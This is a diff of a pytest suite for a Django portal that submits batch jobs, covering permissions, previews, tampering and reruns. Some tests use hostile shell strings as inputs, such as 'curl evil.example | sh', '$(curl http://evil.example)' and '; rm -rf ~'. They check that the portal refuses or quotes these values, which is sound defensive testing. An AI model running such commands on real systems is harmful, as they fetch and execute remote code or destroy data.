@@ -10,9 +10,11 @@ import pytest
 from django.urls import reverse
 
 from batchsync import submit
+from portal.access import WRITE_COMMAND_LINES
 from portal.models import JobTemplate, JobTemplateVersion, Submission, SubmissionState
+from tests.personas import person
 from tests.portal.pages import text
-from tests.portal.submit_helpers import form_values, person, use_azurite
+from tests.portal.submit_helpers import form_values, use_azurite
 
 pytestmark = pytest.mark.django_db
 
@@ -36,14 +38,9 @@ def storage(azurite, settings):
 
 
 @pytest.fixture
-def alice():
-    return person("alice")
-
-
-@pytest.fixture
-def as_alice(client, alice):
-    client.force_login(alice)
-    return client
+def engineer():
+    """A Submitter who may also write a template's command line."""
+    return person("erin", "Submitter", permissions=[WRITE_COMMAND_LINES])
 
 
 @pytest.fixture
@@ -90,10 +87,10 @@ def confirm(client, slug, preview_response, **extra):
 # --- who sees what ----------------------------------------------------------------------------------------
 
 
-def test_a_submitter_sees_the_active_templates_with_what_they_run_on(as_alice):
+def test_a_submitter_sees_the_active_templates_with_what_they_run_on(signed_in):
     JobTemplate.objects.filter(slug="render-frames").update(is_active=False)
 
-    page = text(as_alice.get(reverse("submit_template_list")))
+    page = text(signed_in.get(reverse("submit_template_list")))
 
     assert "Count words in each text file" in page and "Run a Python script with parameters" in page
     assert "Render frames" not in page
@@ -102,8 +99,8 @@ def test_a_submitter_sees_the_active_templates_with_what_they_run_on(as_alice):
 
 
 @pytest.mark.parametrize("name", ["submit_template_list", "submission_list"])
-def test_a_viewer_is_refused_and_sees_no_submit_link(client, name):
-    client.force_login(person("victor", "Viewer"))
+def test_a_viewer_is_refused_and_sees_no_submit_link(client, viewer, name):
+    client.force_login(viewer)
 
     assert client.get(reverse(name)).status_code == 403
     assert client.get(reverse("submit_form", args=["count-words"])).status_code == 403
@@ -118,18 +115,18 @@ def test_anonymous_people_are_sent_to_log_in(client):
     assert client.post(reverse("submit_upload", args=["count-words"]), {}).status_code == 302
 
 
-def test_an_inactive_or_unknown_template_is_not_found(as_alice):
+def test_an_inactive_or_unknown_template_is_not_found(signed_in):
     JobTemplate.objects.filter(slug="render-frames").update(is_active=False)
 
-    assert as_alice.get(reverse("submit_form", args=["render-frames"])).status_code == 404
-    assert as_alice.get(reverse("submit_form", args=["nope"])).status_code == 404
+    assert signed_in.get(reverse("submit_form", args=["render-frames"])).status_code == 404
+    assert signed_in.get(reverse("submit_form", args=["nope"])).status_code == 404
 
 
 # --- the form ---------------------------------------------------------------------------------------------
 
 
-def test_the_form_tells_the_browser_what_to_check(as_alice):
-    page = text(as_alice.get(reverse("submit_form", args=["python-script"])))
+def test_the_form_tells_the_browser_what_to_check(signed_in):
+    page = text(signed_in.get(reverse("submit_form", args=["python-script"])))
 
     assert f'name="template_version" value="{version_of("python-script").pk}"' in page
     assert 'name="count"' in page and 'min="1"' in page and 'max="1000"' in page and 'step="1"' in page
@@ -141,8 +138,8 @@ def test_the_form_tells_the_browser_what_to_check(as_alice):
     assert "<script" not in page.replace('<script src="', ""), "no inline script"
 
 
-def test_a_file_field_accepts_only_the_templates_kinds_and_posts_no_bytes(as_alice):
-    page = text(as_alice.get(reverse("submit_form", args=["count-words"])))
+def test_a_file_field_accepts_only_the_templates_kinds_and_posts_no_bytes(signed_in):
+    page = text(signed_in.get(reverse("submit_form", args=["count-words"])))
 
     assert 'accept=".txt,.md,.csv"' in page and " multiple" in page
     assert 'data-max-files="100"' in page and f'data-max-bytes="{100 * 1024 * 1024}"' in page
@@ -150,8 +147,8 @@ def test_a_file_field_accepts_only_the_templates_kinds_and_posts_no_bytes(as_ali
     assert "/static/js/upload.js" in page
 
 
-def test_an_engineer_may_write_the_command_line(client):
-    client.force_login(person("erin", command_lines=True))
+def test_an_engineer_may_write_the_command_line(client, engineer):
+    client.force_login(engineer)
 
     page = text(client.get(reverse("submit_form", args=["render-frames"])))
 
@@ -161,8 +158,8 @@ def test_an_engineer_may_write_the_command_line(client):
 # --- preview and submit -----------------------------------------------------------------------------------
 
 
-def test_the_preview_says_what_will_be_created_and_writes_nothing(as_alice):
-    page = text(preview(as_alice, "render-frames", frames="240", seconds_per_frame="0.5"))
+def test_the_preview_says_what_will_be_created_and_writes_nothing(signed_in):
+    page = text(preview(signed_in, "render-frames", frames="240", seconds_per_frame="0.5"))
 
     assert "This creates 240 tasks on pool demo-pool." in page
     assert "t00001" in page and "t00005" in page and "t00006" not in page and "235 more" in page
@@ -170,23 +167,23 @@ def test_the_preview_says_what_will_be_created_and_writes_nothing(as_alice):
     assert not Submission.objects.exists()
 
 
-def test_submit_makes_one_submission_and_a_second_post_returns_it(as_alice, alice,
+def test_submit_makes_one_submission_and_a_second_post_returns_it(signed_in, user,
                                                                   django_capture_on_commit_callbacks):
-    shown = preview(as_alice, "render-frames", frames="3", seconds_per_frame="0")
+    shown = preview(signed_in, "render-frames", frames="3", seconds_per_frame="0")
 
     with django_capture_on_commit_callbacks() as callbacks:
-        first = confirm(as_alice, "render-frames", shown)
-        again = confirm(as_alice, "render-frames", shown)
+        first = confirm(signed_in, "render-frames", shown)
+        again = confirm(signed_in, "render-frames", shown)
 
     submission = Submission.objects.get()
     assert first.status_code == again.status_code == 302
     assert first["Location"] == again["Location"] == reverse("submission_detail", args=[submission.public_id])
     assert len(callbacks) == 1, "enqueued once"
     assert (submission.submitted_by, submission.total_tasks, submission.parameters) == (
-        alice, 3, {"frames": 3, "seconds_per_frame": 0.0})
+        user, 3, {"frames": 3, "seconds_per_frame": 0.0})
 
 
-def test_a_version_with_an_id_prefix_batch_would_refuse_is_stopped_at_the_preview_naming_the_field(as_alice):
+def test_a_version_with_an_id_prefix_batch_would_refuse_is_stopped_at_the_preview_naming_the_field(signed_in):
     # Saved before ids were checked (the admin now refuses it): the preview says what to fix, and writes nothing.
     template = JobTemplate.objects.get(slug="render-frames")
     version = template.current_version()
@@ -196,39 +193,39 @@ def test_a_version_with_an_id_prefix_batch_would_refuse_is_stopped_at_the_previe
             "image": {"publisher": "canonical", "offer": "ubuntu", "sku": "22_04-lts",
                       "node_agent_sku_id": "batch.node.ubuntu 22.04"}}}})
 
-    page = html.unescape(text(preview(as_alice, "render-frames", frames="3", seconds_per_frame="0")))
+    page = html.unescape(text(preview(signed_in, "render-frames", frames="3", seconds_per_frame="0")))
 
     assert "cannot be submitted as it stands: pool.auto_pool.id_prefix: the auto pool's id prefix" in page
     assert "is 29 characters; Batch allows 1 to 20 letters, digits, hyphens and underscores." in page
     assert "This creates" not in page and not Submission.objects.exists()
 
 
-def test_change_values_goes_back_to_the_form_with_the_values_kept(as_alice):
-    shown = preview(as_alice, "python-script", count="7", mode="thorough", label="mine")
+def test_change_values_goes_back_to_the_form_with_the_values_kept(signed_in):
+    shown = preview(signed_in, "python-script", count="7", mode="thorough", label="mine")
 
-    page = text(as_alice.post(reverse("submit_confirm", args=["python-script"]),
+    page = text(signed_in.post(reverse("submit_confirm", args=["python-script"]),
                               {**form_values(shown), "edit": "1"}))
 
     assert 'value="7"' in page and 'value="mine"' in page and '<option value="thorough" selected>' in page
     assert not Submission.objects.exists()
 
 
-def test_a_tampered_preview_is_refused_and_nothing_is_written(as_alice):
-    shown = preview(as_alice, "render-frames", frames="3")
+def test_a_tampered_preview_is_refused_and_nothing_is_written(signed_in):
+    shown = preview(signed_in, "render-frames", frames="3")
     values = form_values(shown)
     payload = values["payload"]
     tampered = payload[:10] + ("A" if payload[10] != "A" else "B") + payload[11:]
 
-    response = as_alice.post(reverse("submit_confirm", args=["render-frames"]), {"payload": tampered, "submit": 1},
+    response = signed_in.post(reverse("submit_confirm", args=["render-frames"]), {"payload": tampered, "submit": 1},
                              follow=True)
 
     assert "That preview could not be used" in text(response)
     assert not Submission.objects.exists()
 
 
-def test_someone_elses_preview_cannot_be_submitted(as_alice, client):
-    shown = preview(as_alice, "render-frames", frames="3")
-    client.force_login(person("bob"))
+def test_someone_elses_preview_cannot_be_submitted(signed_in, client, other_submitter):
+    shown = preview(signed_in, "render-frames", frames="3")
+    client.force_login(other_submitter)
 
     response = client.post(reverse("submit_confirm", args=["render-frames"]), {**form_values(shown), "submit": 1},
                            follow=True)
@@ -237,36 +234,36 @@ def test_someone_elses_preview_cannot_be_submitted(as_alice, client):
 
 
 @pytest.mark.parametrize("tampered", ["999999", "1 OR 1=1", "", "other-template"])
-def test_a_tampered_template_version_is_a_clear_error_and_nothing_is_written(as_alice, tampered):
+def test_a_tampered_template_version_is_a_clear_error_and_nothing_is_written(signed_in, tampered):
     if tampered == "other-template":
         tampered = version_of("python-script").pk
 
-    page = text(as_alice.post(reverse("submit_form", args=["render-frames"]),
+    page = text(signed_in.post(reverse("submit_form", args=["render-frames"]),
                               {"template_version": tampered, "frames": "3"}))
 
     assert "not offered any more, or the form was changed; nothing was submitted" in page
     assert "This creates" not in page and not Submission.objects.exists()
 
 
-def test_an_outdated_template_version_is_a_clear_error(as_alice):
+def test_an_outdated_template_version_is_a_clear_error(signed_in):
     old = version_of("render-frames")
     JobTemplateVersion.objects.create(template=old.template, number=2, spec=old.spec)
 
-    page = text(as_alice.post(reverse("submit_form", args=["render-frames"]),
+    page = text(signed_in.post(reverse("submit_form", args=["render-frames"]),
                               {"template_version": old.pk, "frames": "3"}))
 
     assert "has changed since the form was opened; nothing was submitted" in page
     assert not Submission.objects.exists()
 
 
-def test_a_command_line_posted_by_someone_who_may_not_write_one_is_refused(as_alice):
-    response = preview(as_alice, "render-frames", frames="3", command_line="curl evil.example | sh")
+def test_a_command_line_posted_by_someone_who_may_not_write_one_is_refused(signed_in):
+    response = preview(signed_in, "render-frames", frames="3", command_line="curl evil.example | sh")
 
     assert response.status_code == 403 and not Submission.objects.exists()
 
 
-def test_an_engineers_command_line_is_used(client):
-    client.force_login(person("erin", command_lines=True))
+def test_an_engineers_command_line_is_used(client, engineer):
+    client.force_login(engineer)
 
     shown = preview(client, "render-frames", frames="2", seconds_per_frame="0", command_line="echo only {frame}")
     confirm(client, "render-frames", shown)
@@ -284,10 +281,10 @@ INJECTIONS = ["; rm -rf ~", "$(curl http://evil.example)", "`id`", "a && b | c",
 
 
 @pytest.mark.parametrize("value", INJECTIONS)
-def test_a_string_stays_one_argument_whatever_it_holds(as_alice, all_types, value):
-    shown = preview(as_alice, "every-type", text=value, count="3", ratio="2.5", mode="slow", verbose="on")
+def test_a_string_stays_one_argument_whatever_it_holds(signed_in, all_types, value):
+    shown = preview(signed_in, "every-type", text=value, count="3", ratio="2.5", mode="slow", verbose="on")
     assert "This creates 1 task" in text(shown)
-    confirm(as_alice, "every-type", shown)
+    confirm(signed_in, "every-type", shown)
 
     task = next(submit.expand(Submission.objects.get()))
     argv = shlex.split(task.command_line)
@@ -308,9 +305,9 @@ def test_a_string_stays_one_argument_whatever_it_holds(as_alice, all_types, valu
     ("mode", "fast; id", "choose one of: fast, slow"),
     ("mode", "fast\nid", "choose one of"),
 ])
-def test_a_value_that_does_not_fit_is_shown_next_to_its_field_and_nothing_is_written(as_alice, all_types, field,
+def test_a_value_that_does_not_fit_is_shown_next_to_its_field_and_nothing_is_written(signed_in, all_types, field,
                                                                                       value, words):
-    page = text(preview(as_alice, "every-type", **{"text": "ok", "count": "1", "ratio": "1", "mode": "fast",
+    page = text(preview(signed_in, "every-type", **{"text": "ok", "count": "1", "ratio": "1", "mode": "fast",
                                                    field: value}))
 
     assert words.lower() in page.replace("&#x27;", "'").lower()
@@ -318,21 +315,21 @@ def test_a_value_that_does_not_fit_is_shown_next_to_its_field_and_nothing_is_wri
     assert "This creates" not in page and not Submission.objects.exists()
 
 
-def test_a_boolean_cannot_smuggle_a_value(as_alice, all_types):
-    shown = preview(as_alice, "every-type", text="ok", verbose="true; rm -rf ~")
-    confirm(as_alice, "every-type", shown)
+def test_a_boolean_cannot_smuggle_a_value(signed_in, all_types):
+    shown = preview(signed_in, "every-type", text="ok", verbose="true; rm -rf ~")
+    confirm(signed_in, "every-type", shown)
 
     script = shlex.split(next(submit.expand(Submission.objects.get())).command_line)[2]
     assert shlex.split(script) == ["printf", "%s\\n", "ok", "1", "0.5", "fast", "--verbose", "done"]
 
 
-def test_quoted_values_run_as_data_on_localbatch(as_alice, all_types, batch_gateway):
+def test_quoted_values_run_as_data_on_localbatch(signed_in, all_types, batch_gateway):
     """The proof that counts: the task really runs under /bin/sh, and prints every value exactly as typed."""
     from tests.localbatch.helpers import wait_for
 
     text_value = "it's $(touch /tmp/pwned) `id`; echo \"owned\" && exit 3 | cat > /tmp/x"
-    shown = preview(as_alice, "every-type", text=text_value, count="7", ratio="-1.5", mode="slow", verbose="on")
-    confirm(as_alice, "every-type", shown)
+    shown = preview(signed_in, "every-type", text=text_value, count="7", ratio="-1.5", mode="slow", verbose="on")
+    confirm(signed_in, "every-type", shown)
     submission = Submission.objects.get()
 
     assert submit.submit_submission(submission.pk) == SubmissionState.SUBMITTED
@@ -347,23 +344,23 @@ def test_quoted_values_run_as_data_on_localbatch(as_alice, all_types, batch_gate
 # --- re-run ---------------------------------------------------------------------------------------------------
 
 
-def test_a_rerun_starts_from_the_earlier_values_and_records_its_parent(as_alice):
-    confirm(as_alice, "python-script", preview(as_alice, "python-script", count="9", mode="thorough", label="first"))
+def test_a_rerun_starts_from_the_earlier_values_and_records_its_parent(signed_in):
+    confirm(signed_in, "python-script", preview(signed_in, "python-script", count="9", mode="thorough", label="first"))
     parent = Submission.objects.get()
 
-    page = text(as_alice.get(reverse("submit_form", args=["python-script"]) + f"?rerun={parent.public_id}"))
+    page = text(signed_in.get(reverse("submit_form", args=["python-script"]) + f"?rerun={parent.public_id}"))
     assert 'value="9"' in page and 'value="first"' in page and f'value="{parent.public_id}"' in page
 
-    shown = preview(as_alice, "python-script", count="9", mode="thorough", label="second", rerun=parent.public_id)
-    confirm(as_alice, "python-script", shown)
+    shown = preview(signed_in, "python-script", count="9", mode="thorough", label="second", rerun=parent.public_id)
+    confirm(signed_in, "python-script", shown)
     child = Submission.objects.exclude(pk=parent.pk).get()
     assert child.parent == parent and child.parameters["label"] == "second"
 
 
-def test_someone_elses_submission_cannot_be_rerun(as_alice, client):
-    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
+def test_someone_elses_submission_cannot_be_rerun(signed_in, client, other_submitter):
+    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
     parent = Submission.objects.get()
-    client.force_login(person("bob"))
+    client.force_login(other_submitter)
     url = reverse("submit_form", args=["render-frames"])
 
     assert client.get(f"{url}?rerun={parent.public_id}").status_code == 404
@@ -376,11 +373,10 @@ def test_someone_elses_submission_cannot_be_rerun(as_alice, client):
 # --- following a submission ---------------------------------------------------------------------------------
 
 
-def test_my_submissions_newest_first_and_only_mine(as_alice, client):
+def test_my_submissions_newest_first_and_only_mine(signed_in, client, other_submitter):
     for frames in ("1", "2", "3"):
-        confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames=frames))
-    bob = person("bob")
-    client.force_login(bob)
+        confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames=frames))
+    client.force_login(other_submitter)
     confirm(client, "render-frames", preview(client, "render-frames", frames="4"))
     client.force_login(Submission.objects.filter(total_tasks=1).get().submitted_by)
 
@@ -390,36 +386,36 @@ def test_my_submissions_newest_first_and_only_mine(as_alice, client):
     assert page.index("0 / 3") < page.index("0 / 2") < page.index("0 / 1")
 
 
-def test_the_detail_page_shows_progress_and_polls_until_final(as_alice):
-    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="10000"))
+def test_the_detail_page_shows_progress_and_polls_until_final(signed_in):
+    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="10000"))
     submission = Submission.objects.get()
     Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.ADDING_TASKS, tasks_added=6200)
     url = reverse("submission_detail", args=[submission.public_id])
 
-    page = text(as_alice.get(url))
+    page = text(signed_in.get(url))
     assert "6,200 / 10,000 tasks added" in page and 'hx-trigger="every 1s"' in page
 
-    partial = text(as_alice.get(url, headers={"HX-Request": "true", "HX-Target": "submission-status"}))
+    partial = text(signed_in.get(url, headers={"HX-Request": "true", "HX-Target": "submission-status"}))
     assert "6,200 / 10,000 tasks added" in partial and "<html" not in partial
 
     Submission.objects.filter(pk=submission.pk).update(
         state=SubmissionState.FAILED, error_message="Task t00042 is too large for Batch: one task may be at most "
                                                     "1 MB.")
-    page = text(as_alice.get(url))
+    page = text(signed_in.get(url))
     assert "Task t00042 is too large for Batch: one task may be at most 1 MB." in page
     assert "hx-trigger" not in page, "a failed submission no longer changes"
 
 
-def test_the_detail_page_links_the_job_with_its_progress(as_alice):
+def test_the_detail_page_links_the_job_with_its_progress(signed_in):
     from tests.factories import JobFactory
 
-    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="3"))
+    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="3"))
     submission = Submission.objects.get()
     Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.SUBMITTED, tasks_added=3)
     job = JobFactory(account=submission.account, job_id=submission.job_id, state="completed", task_completed=3,
                      task_succeeded=3)
 
-    page = text(as_alice.get(reverse("submission_detail", args=[submission.public_id])))
+    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
 
     assert f'href="{reverse("job_detail", args=[job.pk])}"' in page and "Completed 3/3 · 3 succeeded" in page
     assert "<dt>Frames</dt>" in page and "<dt>Seconds per frame</dt>" in page, "values under the form's labels"
@@ -427,73 +423,68 @@ def test_the_detail_page_links_the_job_with_its_progress(as_alice):
 
     job.state, job.task_completed, job.task_succeeded, job.task_running = "active", 1, 1, 2
     job.save()
-    page = text(as_alice.get(reverse("submission_detail", args=[submission.public_id])))
+    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
     assert 'hx-trigger="every 2s"' in page and "Active 1/3 · 1 succeeded" in page, "followed while the job runs"
 
 
-def test_someone_elses_submission_is_not_found(as_alice, client):
-    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
+def test_someone_elses_submission_is_not_found(signed_in, client, other_submitter):
+    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
     submission = Submission.objects.get()
-    client.force_login(person("bob"))
+    client.force_login(other_submitter)
 
     assert client.get(reverse("submission_detail", args=[submission.public_id])).status_code == 404
     assert client.get(reverse("submission_detail", args=[uuid.uuid4()])).status_code == 404
 
 
-def test_an_operator_of_the_team_may_follow_it(as_alice, alice, client):
-    from portal.models import Team
-
-    team = Team.objects.create(name="render")
-    alice.teams.add(team)
-    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
-    operator = person("olga", "Operator")
-    operator.teams.add(team)
-    client.force_login(operator)
+def test_an_operator_of_the_team_may_follow_it(signed_in, user, client, team_a, operator_a):
+    user.teams.add(team_a)
+    confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames="2"))
+    client.force_login(operator_a)
 
     assert client.get(reverse("submission_detail", args=[Submission.objects.get().public_id])).status_code == 200
 
 
-def test_an_idempotency_key_returns_its_submission_and_no_one_elses(alice):
+def test_an_idempotency_key_returns_its_submission_and_no_one_elses(user, other_submitter):
     from portal.submit import services
     from portal.submit.services import SubmissionError
 
     key = uuid.uuid4()
-    first = services.submission_create(user=alice, template_version=version_of("render-frames"),
+    first = services.submission_create(user=user, template_version=version_of("render-frames"),
                                        parameters={"frames": "2"}, public_id=key)
-    again = services.submission_create(user=alice, template_version=version_of("render-frames"),
+    again = services.submission_create(user=user, template_version=version_of("render-frames"),
                                        parameters={"frames": "9"}, public_id=key)
 
     assert again.pk == first.pk and first.public_id == key and Submission.objects.count() == 1
     with pytest.raises(SubmissionError, match="cannot be submitted again"):
-        services.submission_create(user=person("bob"), template_version=version_of("render-frames"),
+        services.submission_create(user=other_submitter, template_version=version_of("render-frames"),
                                    parameters={"frames": "2"}, public_id=key)
     assert Submission.objects.count() == 1
 
 
-def test_my_submissions_page_by_page_without_counting(as_alice, alice):
+def test_my_submissions_page_by_page_without_counting(signed_in, user):
     from portal.pagination import keyset_page
     from portal.submit.selectors import SUBMISSION_SORT
 
     for frames in range(1, 4):
-        confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames=str(frames)))
+        confirm(signed_in, "render-frames", preview(signed_in, "render-frames", frames=str(frames)))
     url = reverse("submission_list")
-    first = text(as_alice.get(url))
+    first = text(signed_in.get(url))
     assert 'rel="next"' not in first, "all three fit one page"
 
-    page = keyset_page(Submission.objects.filter(submitted_by=alice), sort=SUBMISSION_SORT, tiebreak="id", size=2)
+    page = keyset_page(Submission.objects.filter(submitted_by=user), sort=SUBMISSION_SORT, tiebreak="id", size=2)
     assert [s.total_tasks for s in page.items] == [3, 2] and page.has_next
-    partial = text(as_alice.get(url, {"after": page.next_cursor},
+    partial = text(signed_in.get(url, {"after": page.next_cursor},
                                 headers={"HX-Request": "true", "HX-Target": "submissions"}))
     assert "<html" not in partial and 'id="submissions"' in partial
     assert "0 / 1" in partial and "0 / 2" not in partial and "0 / 3" not in partial
 
 
-def test_inputs_kept_as_urls_by_older_submissions_still_expand(alice):
+def test_inputs_kept_as_urls_by_older_submissions_still_expand(user):
     from portal.submit import services
     from portal.submit.values import InputFile
 
     submission = services.submission_create(
-        user=alice, template_version=version_of("count-words"), parameters={},
+        user=user, template_version=version_of("count-words"), parameters={},
         uploaded_files={"texts": [InputFile(name="a.txt", url="https://blob.example/in/a.txt?sv=x&sig=y", size=3)]})
 
     assert submission.inputs == {"texts": [{"name": "a.txt", "url": "https://blob.example/in/a.txt?sv=x&sig=y",
@@ -503,7 +494,7 @@ def test_inputs_kept_as_urls_by_older_submissions_still_expand(alice):
         ("https://blob.example/in/a.txt?sv=x&sig=y", "inputs/a.txt")]
 
 
-def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(as_alice, all_types, localbatch,
+def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(signed_in, all_types, localbatch,
                                                                             settings, monkeypatch):
     from batchsync.accounts import default_account
     from batchsync.gateway import BatchGateway, PoolSpec
@@ -522,13 +513,13 @@ def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(as_a
         **version.spec, "parameters": [{**version.spec["parameters"][0], "max_length": 1_500_000},
                                        *version.spec["parameters"][1:]]})
 
-    shown = preview(as_alice, "every-type", text="x" * 1_100_000)
+    shown = preview(signed_in, "every-type", text="x" * 1_100_000)
     assert "This creates 1 task" in text(shown), "the portal itself allows it; Batch has the last word"
-    confirm(as_alice, "every-type", shown)
+    confirm(signed_in, "every-type", shown)
     submission = Submission.objects.get()
 
     assert submit.submit_submission(submission.pk) == SubmissionState.FAILED
-    page = text(as_alice.get(reverse("submission_detail", args=[submission.public_id])))
+    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
     assert "Task t00001 is too large for Batch: one task may be at most 1 MB" in page
     assert "Not submitted" in page
     # Its job, made and then stopped, is on the page from the start and polled until the sync has seen it end;
@@ -536,15 +527,15 @@ def test_batchs_refusal_of_a_task_over_1_mb_reaches_the_page_in_plain_words(as_a
     with BatchGateway(localbatch.endpoint, localbatch.account_name, localbatch.account_key) as gateway:
         wait_for(lambda: gateway.get_job(submission.job_id).state == "completed", message="the stopped job ended")
     sync_account(default_account())
-    page = text(as_alice.get(reverse("submission_detail", args=[submission.public_id])))
+    page = text(signed_in.get(reverse("submission_detail", args=[submission.public_id])))
     assert "Not submitted" in page and "hx-trigger" not in page
 
 
-def test_a_reruns_preview_marks_what_changed(as_alice):
-    confirm(as_alice, "python-script", preview(as_alice, "python-script", count="9", mode="thorough", label="first"))
+def test_a_reruns_preview_marks_what_changed(signed_in):
+    confirm(signed_in, "python-script", preview(signed_in, "python-script", count="9", mode="thorough", label="first"))
     parent = Submission.objects.get()
 
-    page = text(preview(as_alice, "python-script", count="9", mode="fast", label="first", rerun=parent.public_id))
+    page = text(preview(signed_in, "python-script", count="9", mode="fast", label="first", rerun=parent.public_id))
 
     changed = re.findall(r'<div class="changed"><dt>([^<]+)</dt><dd class="value">([^<]+) <span class="chip">'
                          r'changed</span> <span class="muted small">was ([^<]+)</span>', page)
